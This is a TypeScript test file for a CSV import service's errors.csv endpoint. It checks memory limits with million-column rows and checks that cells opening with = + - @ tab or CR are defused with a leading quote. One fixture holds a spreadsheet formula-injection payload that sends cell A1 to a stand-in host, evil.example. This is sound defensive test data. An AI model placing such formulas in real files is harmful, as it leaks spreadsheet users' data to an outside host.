import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { spawnApi, type ApiChild } from '../support/api-process.js';
import { toCsv, untilQueueReady } from '../support/csv.js';
import { createTestContext, type TestContext } from '../support/test-context.js';

// errors.csv is a stream with bounded memory, and its cells are safe to open in a spreadsheet
// (API.md §4: GET /v1/jobs/{id}/errors.csv).

let ctx: TestContext;
let api: ApiChild;

beforeAll(async () => {
  ctx = await createTestContext();
  await untilQueueReady(ctx);
  // The service as `npm start` runs it: its default 128 MB heap.
  api = await spawnApi(ctx.env, 128);
}, 120_000);
afterAll(async () => {
  await api?.stop();
  await ctx?.close();
});

/** Number of fields of a CSV line without quoted commas. */
const fieldCount = (line: string) => {
  let commas = 0;
  for (let index = line.indexOf(','); index !== -1; index = line.indexOf(',', index + 1)) commas += 1;
  return commas + 1;
};

describe('errors.csv of rows with 1,000,000 columns', () => {
  it('is served whole by an API process with a 128 MB heap, which stays up', async () => {
    const account = await ctx.createAccount();
    // Just under IMPORT_MAX_RECORD_BYTES: the worker keeps each as a COLUMN_COUNT row's raw record.
    const wide = `4006381333931${','.repeat(999_999)}`;
    const job = await ctx.importCsv(account.key, `ean,name\n${wide}\n96385074,Notebook\n${wide}\n`, { on_error: 'skip' });
    expect(job.progress).toMatchObject({ rows_failed: 2, rows_created: 1 });

    const response = await fetch(`${api.url}/v1/jobs/${job.id}/errors.csv`, { headers: { 'x-api-key': account.key } });
    expect(response.status).toBe(200);
    const lines = (await response.text()).split('\n');
    expect(lines[0]).toBe('ean,name,error_row,error_field,error_code,error_message');
    expect(lines.slice(1, 3).map(fieldCount)).toEqual([1_000_004, 1_000_004]);
    // The error columns under their names; the cells past the header's width after them.
    expect(lines[1]!.startsWith('4006381333931,,1,,COLUMN_COUNT,The row has 1000000 fields; the header has 2.,,')).toBe(true);
    expect(lines[2]!.startsWith('4006381333931,,')).toBe(true);
    expect(lines.slice(3)).toEqual(['']);
    expect(await api.alive()).toBe(true);
  }, 120_000);
});

describe('jobs whose upload had a header of 1,000,000 columns', () => {
  it('are listed by an API process with a 128 MB heap, which stays up, and their errors.csv keeps the header', async () => {
    const account = await ctx.createAccount();
    // The rows an import of `ean,name` plus 999,998 empty column names leaves (a real import of
    // such a file takes seconds each): the header is kept as uploaded, for errors.csv.
    const { rows } = await ctx.db.query<{ id: string }>(
      `INSERT INTO jobs (id, account_id, type, status, phase, error_code, detail, input_columns, started_at, finished_at)
       SELECT gen_random_uuid(), $1, 'import', 'failed', 'done', 'IMPORT_FAILED', 'No rows.',
              ARRAY['ean', 'name'] || array_fill(''::text, ARRAY[999998]), now(), now()
       FROM generate_series(1, 12) RETURNING id`,
      [account.id],
    );
    const headers = { 'x-api-key': account.key };

    const list = await fetch(`${api.url}/v1/jobs?limit=50`, { headers });
    expect(list.status).toBe(200);
    expect(((await list.json()) as { data: unknown[] }).data).toHaveLength(12);
    expect((await fetch(`${api.url}/v1/jobs/${rows[0]!.id}`, { headers })).status).toBe(200);
    const report = await fetch(`${api.url}/v1/jobs/${rows[0]!.id}/errors.csv`, { headers });
    expect(report.status).toBe(200);
    expect(fieldCount((await report.text()).split('\n')[0]!)).toBe(1_000_004);
    expect(await api.alive()).toBe(true);
  }, 60_000);
});

describe('formula cells in errors.csv', () => {
  const UPLOADED = toCsv([
    ['ean', 'name', 'brand', 'stock', '=note'],
    ['123', '=HYPERLINK("http://evil.example/?leak="&A1)', '@SUM(1+1)', '-5', '+1'],
    ['4006381333931', "'=already defused", '\tTabbed', '\rCR', "'quoted'"],
    ['96385074', 'Notebook', 'Acme', '3', 'plain'],
  ]);

  it('prefixes cells that start with = + - @ tab or CR with one quote, like exports', async () => {
    const account = await ctx.createAccount();
    const job = await ctx.importCsv(account.key, UPLOADED, { on_error: 'skip' });
    expect(job.progress).toMatchObject({ rows_failed: 2, rows_created: 1 });

    const response = await ctx.get(account.key, `/v1/jobs/${job.id}/errors.csv`);
    expect(response.statusCode).toBe(200);
    const records = parse(response.body) as string[][];
    expect(records.map((record) => record.slice(0, 5))).toEqual([
      ['ean', 'name', 'brand', 'stock', "'=note"],
      ['123', `'=HYPERLINK("http://evil.example/?leak="&A1)`, "'@SUM(1+1)", "'-5", "'+1"],
      // A cell that came defused (from an export) is given back as it came, not quoted twice.
      ['4006381333931', "'=already defused", "'\tTabbed", "'\rCR", "'quoted'"],
    ]);
  });

  it('re-imports, once fixed, to the values of the original upload', async () => {
    const account = await ctx.createAccount();
    const first = await ctx.importCsv(account.key, UPLOADED, { on_error: 'skip' });
    const report = parse((await ctx.get(account.key, `/v1/jobs/${first.id}/errors.csv`)).body) as string[][];
    report[1]![0] = '5901234123457';
    report[1]![3] = '5';
    report[2]![3] = '7';
    const second = await ctx.importCsv(account.key, toCsv(report));
    expect(second.progress).toMatchObject({ rows_failed: 0, rows_created: 2 });

    const pen = (await ctx.get(account.key, '/v1/products/5901234123457')).json<{ name: string; brand: string; attributes: object }>();
    expect(pen).toMatchObject({ name: '=HYPERLINK("http://evil.example/?leak="&A1)', brand: '@SUM(1+1)', attributes: { '=note': '+1' } });
    const defused = (await ctx.get(account.key, '/v1/products/4006381333931')).json<{ name: string; brand: string }>();
    expect(defused).toMatchObject({ name: '=already defused', brand: '\tTabbed' });
  });
});
